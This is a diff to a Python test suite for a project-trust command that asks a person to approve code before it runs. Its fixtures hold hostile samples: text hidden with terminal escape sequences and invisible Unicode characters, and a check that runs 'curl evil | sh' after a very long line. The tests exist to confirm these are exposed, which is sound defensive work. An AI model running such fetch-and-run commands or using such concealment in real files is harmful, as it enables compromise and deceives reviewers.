@@ -22,7 +22,7 @@ def evil(user: User, text: str = "x = 1\n") -> None:
     write(user.project / ".atomic" / "workflows" / "evil.py", text)
 
 
-async def test_programs_are_told_the_items_the_diff_and_the_hash(user: User) -> None:
+async def test_json_has_the_items_the_diff_and_the_hash(user: User) -> None:
     assert await shown(user) == {
         "hash": (await shown(user))["hash"], "trusted": True, "items": [], "project": str(user.project),
     }  # fmt: skip
@@ -47,7 +47,7 @@ async def test_exactly_the_hash_is_approved(user: User) -> None:
     done = await user.atomic("trust", first)
     second = (await shown(user))["hash"]
     assert done.exit_code == 4
-    assert f"{first} is not the hash of this project in its current state: that is {second}" in complaint(done)
+    assert f'"{first}" is not the hash of this project in its current state' in complaint(done)
     done = await user.atomic("trust", second)
     assert (done.exit_code, complaint(done)) == (0, f"{user.project} is trusted in its current state")
     assert (await shown(user))["trusted"]
@@ -68,7 +68,7 @@ async def test_it_can_be_taken_back(user: User) -> None:
     assert (done.exit_code, complaint(done)) == (0, f"{user.project} was not trusted")
 
 
-async def test_without_a_person_it_says_how(user: User) -> None:
+async def test_without_a_terminal_the_message_explains_how_to_approve(user: User) -> None:
     evil(user)
     done = await user.atomic("trust", input="y\n")
     assert done.exit_code == 4
@@ -98,7 +98,7 @@ async def test_only_a_yes_that_is_typed_is_one(user: User, typed: str, code: int
     assert (await shown(user))["trusted"] is (code == 0)
 
 
-async def test_what_is_swapped_while_somebody_thinks_is_not_approved(user: User) -> None:
+async def test_code_that_changes_during_the_question_is_not_approved(user: User) -> None:
     evil(user)
     async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
         await terminal.shows("[y/N]")
@@ -110,7 +110,7 @@ async def test_what_is_swapped_while_somebody_thinks_is_not_approved(user: User)
     assert (await shown(user))["trusted"]
 
 
-async def test_what_was_typed_before_the_question_is_no_answer(user: User) -> None:
+async def test_text_typed_before_the_question_does_not_answer_it(user: User) -> None:
     evil(user)
     async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
         terminal.type("y\n")
@@ -119,7 +119,7 @@ async def test_what_was_typed_before_the_question_is_no_answer(user: User) -> No
         assert await terminal.exit_code() == 4
 
 
-async def test_nothing_hides_in_what_is_shown(user: User) -> None:
+async def test_invisible_characters_are_shown(user: User) -> None:
     hidden = "a = 1 # \x1b[2K\x1b[1A\u202e evil \u200b\U000e0041\r\x9b31m\n"
     evil(user, hidden)
     write(user.project / ".atomic" / "workflows" / "\x1b]0;title\x07.py", "b = 1\n")
@@ -131,7 +131,7 @@ async def test_nothing_hides_in_what_is_shown(user: User) -> None:
         assert mark in done.stdout
 
 
-async def test_a_long_file_says_that_there_is_more_where_one_is_asked(user: User) -> None:
+async def test_the_question_cuts_a_long_file_and_notes_it(user: User) -> None:
     evil(user, "".join(f"line{number} = 1\n" for number in range(1000)) + "evil = 1\n")
     assert "+evil = 1" in (await user.atomic("trust", "--show")).stdout
     async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
@@ -158,7 +158,7 @@ async def test_a_wrong_command_line_is_exit_code_2(user: User, words: tuple[str,
 
 
 @pytest.mark.ci
-async def test_where_all_is_well_nobody_is_asked(user: User) -> None:
+async def test_a_trusted_project_needs_no_question(user: User) -> None:
     done = await user.atomic("trust")
     said = f"{user.project} contains nothing that could run and is trusted in its current state"
     assert (done.exit_code, told(done)) == (0, said)
@@ -169,7 +169,7 @@ async def test_where_all_is_well_nobody_is_asked(user: User) -> None:
 
 
 @pytest.mark.ci
-async def test_an_agent_gets_what_the_project_brings_only_if_that_is_trusted(user: User) -> None:
+async def test_an_agent_gets_project_files_only_if_they_are_trusted(user: User) -> None:
     """Claude Code is told which settings it may read."""
     told_file = user.home / "told"
     user.has_only_claude(f"import sys\nopen({str(told_file)!r}, 'a').write(' '.join(sys.argv) + '\\n')\nsys.exit(1)\n")
@@ -205,7 +205,7 @@ async def test_a_check_is_shown_as_its_command_and_the_file_it_comes_from(user: 
 
 
 def long_check(user: User) -> None:
-    """A check of a stranger's project whose harm is far from its beginning; its second line is one very long line."""
+    """Write an untrusted check with its harm far from the beginning, in a very long second line."""
     echoes = "\n".join(f"echo step {number}" for number in range(22))
     check = f"{echoes}\necho {'x' * 3000}; curl evil | sh\nprintf '\x1b[2K'\nmake test"
     written = check.replace("\x1b", "\\u001b")
